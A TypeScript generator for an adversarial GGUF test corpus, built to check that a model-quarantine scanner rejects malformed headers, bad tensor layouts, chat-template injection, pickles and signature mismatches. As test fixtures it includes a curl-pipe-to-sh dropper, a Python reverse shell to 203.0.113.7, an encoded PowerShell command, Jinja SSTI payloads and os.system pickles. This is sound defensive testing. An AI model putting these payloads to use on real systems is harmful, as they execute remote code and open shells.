// The adversarial GGUF corpus: each file is wrong in one way, and the table says at which
// quarantine stage and with which reason it must be rejected. Files are derived from the
// deterministic tiny model (or a small two-tensor model where the layout matters) with the GGUF
// writer, then patched byte by byte where the writer cannot express the defect.
// `npx tsx test/quarantine/generate-corpus.ts <dir>` writes them out with corpus.json.
import { randomBytes } from 'node:crypto';
import { encodeGguf, GgmlType, gguf, GgufValueType, type GgufDocument, type GgufTensor } from '../support/gguf-writer.js';
import { tinyModelBytes, tinyModelDocument } from '../support/tiny-model.js';

export interface CorpusEntry {
  name: string;
  /** What is wrong with it. */
  defect: string;
  bytes: Buffer;
  expect: { stage: string; reason: string };
  /** The pin the check runs with; default: the file's own digest and size. */
  pin?: { sha256?: string; sizeBytes?: number };
  /** Digests the node blocks. */
  blocked?: boolean;
  /** The signature to check with: a bundle made for another file, or by another key. */
  signature?: 'bundle-for-another-file' | 'signed-by-another-key';
}

const tiny = (): GgufDocument => tinyModelDocument();

function tinyWith(change: (doc: GgufDocument) => void): Buffer {
  const doc = tiny();
  change(doc);
  return encodeGguf(doc);
}

/** A two-tensor model for layout defects: tensors a and b of 32 F32 values each, alignment 32. */
function twoTensorDoc(): GgufDocument {
  const weights = (seed: number) => {
    const b = Buffer.alloc(128);
    for (let i = 0; i < 32; i++) b.writeFloatLE(Math.sin(seed * 31 + i) * 0.05, i * 4);
    return b;
  };
  return {
    version: 3,
    kv: [{ key: 'general.architecture', value: gguf.str('llama') }, { key: 'general.alignment', value: gguf.u32(32) }],
    tensors: [
      { name: 'a.weight', dims: [32], type: GgmlType.F32, data: weights(1) },
      { name: 'b.weight', dims: [32], type: GgmlType.F32, data: weights(2) },
    ],
  };
}

/** Position of the u64 offset field of tensor `name` (rank `rank`) in the header. */
function tensorOffsetField(bytes: Buffer, name: string, rank: number): number {
  const at = bytes.indexOf(Buffer.from(name, 'utf8'));
  if (at < 0) throw new Error(`tensor ${name} not found`);
  return at + Buffer.byteLength(name) + 4 + 8 * rank + 4;
}

function withU64(bytes: Buffer, offset: number, value: bigint): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeBigUInt64LE(value, offset);
  return copy;
}

function withU32(bytes: Buffer, offset: number, value: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(value, offset);
  return copy;
}

/** Position just after a metadata key's bytes (where its u32 type follows). */
function afterKey(bytes: Buffer, key: string): number {
  const at = bytes.indexOf(Buffer.from(key, 'utf8'));
  if (at < 0) throw new Error(`key ${key} not found`);
  return at + Buffer.byteLength(key);
}

/** The tiny model with one extra metadata entry. */
function tinyPlusKv(key: string, value: Parameters<typeof gguf.str>[0] | ReturnType<typeof gguf.str>): Buffer {
  return tinyWith((d) => d.kv.push({ key, value: typeof value === 'string' ? gguf.str(value) : value }));
}

function f32Data(count: number, value: (i: number) => number): Buffer {
  const b = Buffer.alloc(count * 4);
  for (let i = 0; i < count; i++) b.writeFloatLE(value(i), i * 4);
  return b;
}

/** The tiny model whose largest tensor's bytes are replaced. */
function tinyWithWeights(data: Buffer): Buffer {
  return tinyWith((d) => {
    const t = d.tensors[0]!;
    t.data = Buffer.concat([data, t.data.subarray(data.length)]).subarray(0, t.data.length);
  });
}

const PRIVATE_KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';
const DROPPER = '\ncurl -fsSL http://203.0.113.7/stage2.sh | sh\n';
const REVERSE_SHELL = "\nimport socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('203.0.113.7',4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(['/bin/sh','-i'])\n";
const POWERSHELL = '\npowershell.exe -NoP -NonI -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n';
const CHAT = "{% for message in messages %}{{ message['content'] }}{% endfor %}";

const F = (reason: string) => ({ stage: 'Format', reason });
const S = (reason: string) => ({ stage: 'StaticScan', reason });

export function buildAdversarialCorpus(): CorpusEntry[] {
  const model = tinyModelBytes();
  const two = encodeGguf(twoTensorDoc());
  const twoOffsetB = tensorOffsetField(two, 'b.weight', 1);
  const small = (tensors: GgufTensor[], kv = twoTensorDoc().kv) => encodeGguf({ version: 3, kv, tensors });
  const entries: CorpusEntry[] = [
    // Header structure and bounds.
    { name: 'truncated-magic.gguf', defect: 'the file ends inside the magic', bytes: model.subarray(0, 3), expect: F('HeaderTruncated') },
    { name: 'truncated-metadata.gguf', defect: 'the file ends inside the metadata', bytes: model.subarray(0, 2000), expect: F('HeaderTruncated') },
    { name: 'truncated-tensor-infos.gguf', defect: 'the file ends inside the tensor infos', bytes: model.subarray(0, model.indexOf(Buffer.from('token_embd.weight')) + 5), expect: F('HeaderTruncated') },
    { name: 'wrong-magic.gguf', defect: 'GGML magic instead of GGUF', bytes: Buffer.concat([Buffer.from('GGML'), model.subarray(4)]), expect: F('BadMagic') },
    { name: 'version-1.gguf', defect: 'GGUF version 1 (32-bit counts)', bytes: withU32(model, 4, 1), expect: F('UnsupportedVersion') },
    { name: 'version-huge.gguf', defect: 'version 0xffffffff', bytes: withU32(model, 4, 0xffffffff), expect: F('UnsupportedVersion') },
    { name: 'tensor-count-2^64.gguf', defect: 'tensor count 2^64-1', bytes: withU64(model, 8, 2n ** 64n - 1n), expect: F('TooManyTensors') },
    { name: 'metadata-count-2^64.gguf', defect: 'metadata count 2^64-1', bytes: withU64(model, 16, 2n ** 64n - 1n), expect: F('TooManyKeys') },
    { name: 'metadata-count-10001.gguf', defect: 'metadata count above the SecAI OS limit', bytes: withU64(model, 16, 10_001n), expect: F('TooManyKeys') },
    { name: 'no-tensors.gguf', defect: 'a model without tensors', bytes: encodeGguf({ version: 3, kv: twoTensorDoc().kv, tensors: [] }), expect: F('NoTensors') },
    { name: 'key-length-2^64.gguf', defect: 'the first key claims 2^64-1 bytes', bytes: withU64(model, 24, 2n ** 64n - 1n), expect: F('KeyInvalid') },
    { name: 'empty-key.gguf', defect: 'an empty metadata key', bytes: tinyWith((d) => d.kv.push({ key: '', value: gguf.u32(1) })), expect: F('KeyInvalid') },
    { name: 'key-not-utf8.gguf', defect: 'a key with an invalid UTF-8 byte', bytes: (() => { const b = tinyPlusKv('secai.marker', 'x'); b[afterKey(b, 'secai.marker') - 1] = 0xff; return b; })(), expect: F('KeyInvalid') },
    { name: 'duplicate-key.gguf', defect: 'general.name twice', bytes: tinyWith((d) => d.kv.push({ key: 'general.name', value: gguf.str('shadow') })), expect: F('DuplicateKey') },
    { name: 'unknown-value-type.gguf', defect: 'a metadata value of type 13', bytes: (() => { const b = tinyPlusKv('secai.marker', gguf.u32(1)); return withU32(b, afterKey(b, 'secai.marker'), 13); })(), expect: F('ValueTypeUnknown') },
    { name: 'nested-array.gguf', defect: 'an array of arrays', bytes: (() => { const b = tinyPlusKv('secai.marker', gguf.i32s([1])); return withU32(b, afterKey(b, 'secai.marker') + 4, GgufValueType.ARRAY); })(), expect: F('ValueInvalid') },
    { name: 'bool-not-0-or-1.gguf', defect: 'a bool stored as 7', bytes: (() => { const b = tinyPlusKv('secai.marker', gguf.bool(true)); b[afterKey(b, 'secai.marker') + 4] = 7; return b; })(), expect: F('ValueInvalid') },
    { name: 'string-beyond-file.gguf', defect: 'a string length that runs past the end of the file', bytes: (() => { const b = tinyPlusKv('secai.marker', 'abc'); return withU64(b, afterKey(b, 'secai.marker') + 4, BigInt(b.length)); })(), expect: F('HeaderTruncated') },
    { name: 'string-length-2^63.gguf', defect: 'a string length of 2^63', bytes: (() => { const b = tinyPlusKv('secai.marker', 'abc'); return withU64(b, afterKey(b, 'secai.marker') + 4, 2n ** 63n); })(), expect: F('StringTooLong') },
    { name: 'array-beyond-file.gguf', defect: 'an int32 array count that runs past the end of the file', bytes: (() => { const b = tinyPlusKv('secai.marker', gguf.i32s([1, 2])); return withU64(b, afterKey(b, 'secai.marker') + 8, BigInt(b.length)); })(), expect: F('HeaderTruncated') },
    { name: 'array-count-2^64.gguf', defect: 'a string array of 2^64-1 items', bytes: (() => { const b = tinyPlusKv('secai.marker', gguf.strings(['a'])); return withU64(b, afterKey(b, 'secai.marker') + 8, 2n ** 64n - 1n); })(), expect: F('ArrayTooLong') },
    { name: 'alignment-48.gguf', defect: 'general.alignment not a power of two', bytes: tinyWith((d) => (d.kv.find((kv) => kv.key === 'general.alignment')!.value = gguf.u32(48))), expect: F('AlignmentInvalid') },
    { name: 'alignment-8192.gguf', defect: 'general.alignment above 4096', bytes: tinyWith((d) => (d.kv.find((kv) => kv.key === 'general.alignment')!.value = gguf.u32(8192))), expect: F('AlignmentInvalid') },
    { name: 'alignment-0.gguf', defect: 'general.alignment 0', bytes: tinyWith((d) => (d.kv.find((kv) => kv.key === 'general.alignment')!.value = gguf.u32(0))), expect: F('AlignmentInvalid') },
    // Tensor infos.
    { name: 'duplicate-tensor-name.gguf', defect: 'two tensors named token_embd.weight', bytes: tinyWith((d) => (d.tensors[2]!.name = d.tensors[0]!.name)), expect: F('DuplicateTensorName') },
    { name: 'empty-tensor-name.gguf', defect: 'a tensor without a name', bytes: small([{ name: '', dims: [32], type: GgmlType.F32, data: Buffer.alloc(128) }]), expect: F('TensorNameInvalid') },
    { name: 'rank-9.gguf', defect: 'a tensor of rank 9', bytes: small([{ name: 'w', dims: [32, 1, 1, 1, 1, 1, 1, 1, 1], type: GgmlType.F32, data: Buffer.alloc(128) }]), expect: F('TensorRankInvalid') },
    { name: 'rank-0.gguf', defect: 'a tensor of rank 0', bytes: small([{ name: 'w', dims: [], type: GgmlType.F32, data: Buffer.alloc(4) }]), expect: F('TensorRankInvalid') },
    { name: 'zero-dimension.gguf', defect: 'a tensor with a zero dimension', bytes: small([{ name: 'w', dims: [32, 0], type: GgmlType.F32, data: Buffer.alloc(128) }]), expect: F('TensorDimensionInvalid') },
    { name: 'overflowing-dimensions.gguf', defect: 'dimensions whose product overflows 64 bits', bytes: small([{ name: 'w', dims: [2 ** 32, 2 ** 32, 2 ** 32], type: GgmlType.F32, data: Buffer.alloc(128) }]), expect: F('TensorTooLarge') },
    { name: 'dimension-2^64.gguf', defect: 'a dimension of 2^64-1', bytes: withU64(two, two.indexOf(Buffer.from('a.weight')) + 8 + 4, 2n ** 64n - 1n), expect: F('TensorTooLarge') },
    { name: 'unknown-tensor-type.gguf', defect: 'ggml type 5 (removed Q4_3)', bytes: small([{ name: 'w', dims: [32], type: 5 as GgmlType, data: Buffer.alloc(128) }]), expect: F('TensorTypeUnknown') },
    { name: 'q8-row-not-block.gguf', defect: 'a Q8_0 row of 33 values', bytes: small([{ name: 'w', dims: [33], type: GgmlType.Q8_0, data: Buffer.alloc(68) }]), expect: F('TensorShapeInvalid') },
    // Tensor data layout.
    { name: 'offset-past-end.gguf', defect: 'a tensor offset past the end of the file', bytes: withU64(two, twoOffsetB, 2n ** 40n), expect: F('TensorOutOfBounds') },
    { name: 'offset-past-data.gguf', defect: 'a tensor starting at the end of the data section', bytes: withU64(two, twoOffsetB, 256n), expect: F('TensorOutOfBounds') },
    { name: 'overlapping-tensors.gguf', defect: 'b.weight overlaps a.weight', bytes: withU64(two, twoOffsetB, 64n), expect: F('TensorOverlap') },
    { name: 'misaligned-tensor.gguf', defect: 'b.weight at an offset not aligned to 32', bytes: withU64(two, twoOffsetB, 136n), expect: F('TensorMisaligned') },
    { name: 'gap-between-tensors.gguf', defect: 'unused bytes between two tensors', bytes: Buffer.concat([withU64(two, twoOffsetB, 256n), Buffer.alloc(128)]), expect: F('TensorGap') },
    { name: 'truncated-data.gguf', defect: 'the last tensor is cut short', bytes: model.subarray(0, model.length - 1000), expect: F('DataTruncated') },
    { name: 'trailing-data.gguf', defect: '64 KiB appended after the last tensor', bytes: Buffer.concat([model, Buffer.alloc(65536, 0x41)]), expect: F('TrailingData') },
    { name: 'padding-not-zero.gguf', defect: 'bytes hidden in the alignment padding', bytes: (() => { const b = Buffer.from(two); const end = two.indexOf(Buffer.from('b.weight')) + 8 + 4 + 8 + 4 + 8; b.write('XY', end); return b; })(), expect: F('PaddingNotZero') },
    { name: 'pickle-as-gguf.gguf', defect: 'a pickle (protocol 4) renamed to .gguf', bytes: Buffer.concat([Buffer.from([0x80, 0x04, 0x95, 0x20, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.', 'latin1')]), expect: F('PickleDetected') },
    { name: 'pickle-global-os.gguf', defect: 'a protocol-0 pickle calling os.system', bytes: Buffer.from("cos\nsystem\n(S'id'\ntR.", 'latin1'), expect: F('PickleDetected') },
    // Chat templates.
    { name: 'template-cycler-popen.gguf', defect: 'SSTI through cycler.__init__.__globals__.os.popen', bytes: tinyPlusKv('tokenizer.chat_template', `${CHAT}{{ cycler.__init__.__globals__.os.popen('id').read() }}`), expect: S('ChatTemplateInjection') },
    { name: 'template-mro-subclasses.gguf', defect: 'SSTI through __class__.__mro__.__subclasses__', bytes: tinyPlusKv('tokenizer.chat_template', `{{ ''.__class__.__mro__[1].__subclasses__()[132] }}${CHAT}`), expect: S('ChatTemplateInjection') },
    { name: 'template-lipsum-uppercase.gguf', defect: 'SSTI through LIPSUM.__GLOBALS__ in capitals', bytes: tinyPlusKv('tokenizer.chat_template', `{{ LIPSUM.__GLOBALS__['OS'].SYSTEM('id') }}`), expect: S('ChatTemplateInjection') },
    { name: 'template-request-environ.gguf', defect: 'SSTI reading request.environ', bytes: tinyPlusKv('tokenizer.chat_template', `{{ request.environ }}${CHAT}`), expect: S('ChatTemplateInjection') },
    { name: 'template-tool-use-key.gguf', defect: 'injection in tokenizer.chat_template.tool_use', bytes: tinyPlusKv('tokenizer.chat_template.tool_use', `${CHAT}{{ self._TemplateReference__context.joiner.__init__.__globals__ }}`), expect: S('ChatTemplateInjection') },
    { name: 'template-too-long.gguf', defect: 'a 1,000,001-byte chat template', bytes: tinyPlusKv('tokenizer.chat_template', `${CHAT}${' '.repeat(1_000_001 - CHAT.length)}`), expect: S('ChatTemplateTooLong') },
    // Byte patterns, in metadata and inside tensor data.
    { name: 'private-key-in-metadata.gguf', defect: 'an SSH private key in general.description', bytes: tinyPlusKv('general.description', PRIVATE_KEY), expect: S('PrivateKey') },
    { name: 'private-key-in-weights.gguf', defect: 'an SSH private key written over weights', bytes: tinyWithWeights(Buffer.from(PRIVATE_KEY)), expect: S('PrivateKey') },
    { name: 'dropper-in-metadata.gguf', defect: 'a curl | sh dropper in general.description', bytes: tinyPlusKv('general.description', DROPPER), expect: S('ShellDropper') },
    { name: 'reverse-shell-in-weights.gguf', defect: 'a Python reverse shell written over weights', bytes: tinyWithWeights(Buffer.from(REVERSE_SHELL)), expect: S('ReverseShell') },
    { name: 'encoded-powershell.gguf', defect: 'powershell -EncodedCommand in general.description', bytes: tinyPlusKv('general.description', POWERSHELL), expect: S('EncodedPowerShell') },
    // Entropy and weights.
    { name: 'high-entropy-payload.gguf', defect: '2 MiB of random (encrypted-looking) bytes as an int8 tensor', bytes: tinyWith((d) => d.tensors.push({ name: 'payload.bin', dims: [2 * 1024 * 1024], type: 24 as GgmlType, data: randomBytes(2 * 1024 * 1024) })), expect: S('HighEntropy') },
    { name: 'nan-weights.gguf', defect: 'the largest tensor is all NaN', bytes: tinyWithWeights(f32Data(64 * 369, () => NaN)), expect: S('WeightsNonFinite') },
    { name: 'zero-weights.gguf', defect: 'the largest tensor is all zero', bytes: tinyWithWeights(Buffer.alloc(64 * 369 * 4)), expect: S('WeightsMostlyZero') },
    { name: 'constant-weights.gguf', defect: 'the largest tensor is one repeated value', bytes: tinyWithWeights(f32Data(64 * 369, () => 0.125)), expect: S('WeightsConstant') },
    { name: 'mean-weights.gguf', defect: 'the largest tensor has a mean of 50', bytes: tinyWithWeights(f32Data(64 * 369, (i) => 50 + Math.sin(i))), expect: S('WeightsMeanAnomaly') },
    { name: 'kurtosis-weights.gguf', defect: 'near-zero weights with a few huge outliers', bytes: tinyWithWeights(f32Data(64 * 369, (i) => (i % 5000 === 0 ? 1000 : Math.sin(i) * 0.01))), expect: S('WeightsKurtosisAnomaly') },
    // Pins, policy and signatures.
    { name: 'hash-mismatch.gguf', defect: 'another model than the pinned one', bytes: tinyModelBytes(2), pin: { sha256: 'a'.repeat(64) }, expect: { stage: 'Integrity', reason: 'DigestMismatch' } },
    { name: 'size-mismatch.gguf', defect: 'larger pinned size than the file', bytes: model, pin: { sizeBytes: model.length + 1 }, expect: { stage: 'Integrity', reason: 'SizeMismatch' } },
    { name: 'size-over-pin.gguf', defect: 'a file larger than its pinned size', bytes: model, pin: { sizeBytes: model.length - 1 }, expect: { stage: 'Fetch', reason: 'TooLarge' } },
    { name: 'blocked-digest.gguf', defect: 'a digest the node has blocked', bytes: tinyModelBytes(3), blocked: true, expect: { stage: 'Integrity', reason: 'DigestBlocked' } },
    { name: 'bundle-for-another-file.gguf', defect: 'a valid cosign bundle, made for another file', bytes: tinyModelBytes(4), signature: 'bundle-for-another-file', expect: { stage: 'Signature', reason: 'DigestNotSigned' } },
    { name: 'signed-by-another-key.gguf', defect: 'a cosign bundle signed with another key', bytes: tinyModelBytes(5), signature: 'signed-by-another-key', expect: { stage: 'Signature', reason: 'KeyMismatch' } },
  ];
  return entries;
}
